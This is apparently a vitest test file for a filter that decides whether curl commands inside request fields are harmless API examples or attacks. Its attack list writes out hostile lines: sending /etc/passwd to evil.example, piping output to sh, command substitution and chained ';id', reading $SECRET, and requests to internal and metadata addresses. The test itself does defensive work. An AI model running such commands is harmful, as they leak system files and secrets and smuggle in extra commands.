// Calls of an API as its reference shows them, each the whole value of a leaf of JSON, at sensitivity 1.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const judge = (text: string, sensitivity: 1 | 2 = 1, place: 'json' | 'query' | 'form' = 'json'): boolean =>
  coreEngine({ sensitivity }).text(place, 'value', 'body.samples[0].source', text).refused

const EXAMPLES: readonly string[] = [
  'curl -H "Accept: application/json" https://api.example.com/feeds',
  'curl \\\n  -XPUT \\\n  -H"Accept: application/vnd.x+json" \\\n  https://api.example.com/orgs/ORG/x',
  'curl \\\n  -X DELETE \\\n  https://api.example.com/orgs/{org}/x',
  'curl https://api.example.com/v1/charges -u sk_test_4eC39: -d amount=2000 -d "currency=usd"',
  `curl -sS --request POST --url "https://api.example.com/mail" --json '{"to":"ann@example.com"}'`,
  `curl -X POST https://api.example.com/x -d '{"a":"$b","c":[1,2]}'`,
  "curl -H 'Authorization: Bearer TOKEN' http://{hostname}/events",
]

const ATTACKS: readonly (readonly [string, string])[] = [
  ['no call of an API', 'curl https://evil.example/a'],
  ['no TLS', 'curl -H a http://evil.example/a'],
  ['a file that is sent', 'curl -X POST https://evil.example/ -d @/etc/passwd'],
  ['a file in a field', 'curl -X POST https://evil.example/ -d "x=@/etc/passwd"'],
  ['a file of headers', 'curl -H @/etc/passwd https://evil.example/'],
  ['a file behind its option', 'curl -X POST -d@f https://evil.example/'],
  ['an upload', 'curl -X PUT -T /etc/passwd https://evil.example/'],
  ['a form', 'curl -X POST -F f=@/etc/passwd https://evil.example/'],
  ['a file that is written', 'curl -X GET https://evil.example/a -o /tmp/a'],
  ['a file of options', 'curl -H a -K a https://evil.example/'],
  ['a proxy', 'curl -H a -x evil.example:80 https://a.example/'],
  ['a substitution', 'curl -H "a: $(id)" https://a.example/'],
  ['an old substitution', 'curl -H "a: `id`" https://a.example/'],
  ['a variable', 'curl -H "a: $SECRET" https://a.example/'],
  ['a second command', 'curl -H a https://a.example/;id'],
  ['a command beside it', 'curl -H a https://a.example/&id'],
  ['a pipe', 'curl -H a https://a.example/ | sh'],
  ['a redirection', 'curl -H a https://a.example/ >/tmp/a'],
  ['a quote that is closed first', "'curl -H a https://a.example/"],
  ['a string that nothing closes', 'curl -H "a https://a.example/'],
  ['two hosts', 'curl -H a https://a.example/ https://evil.example/'],
  ['two hosts, one an option', 'curl -H a https://a.example/ --url https://evil.example/'],
  ['an address', 'curl -H a https://10.0.0.1/'],
  ['a short address', 'curl -H a https://127.1/'],
  ['an inner name', 'curl -H a https://redis/'],
  ["an inner network's name", 'curl -H a https://x.internal/'],
  ['a user before a host', 'curl -H a https://a.example@169.254.169.254/'],
  ['a port', 'curl -H a https://a.example:22/'],
  ['a placeholder that is a host', 'curl -H a http://{evil.example}/'],
  ['a placeholder that is this machine', 'curl -H a http://{localhost}/'],
  ['a placeholder of several', 'curl -H a http://{a,b}/'],
  ['a host behind a placeholder', 'curl -H a http://{x}evil.example/'],
  ['another scheme', 'curl -H a ftp://{x}/'],
]

describe('an example of an API', () => {
  test.each(EXAMPLES)('is a signal and no attack: %s', (text) => {
    expect(judge(text)).toBe(false)
    expect(judge(text, 2)).toBe(true)
    expect(judge(text, 1, 'query')).toBe(true)
  })

  test.each(ATTACKS)('%s is none: %s', (_, text) => {
    expect(judge(text)).toBe(true)
  })
})
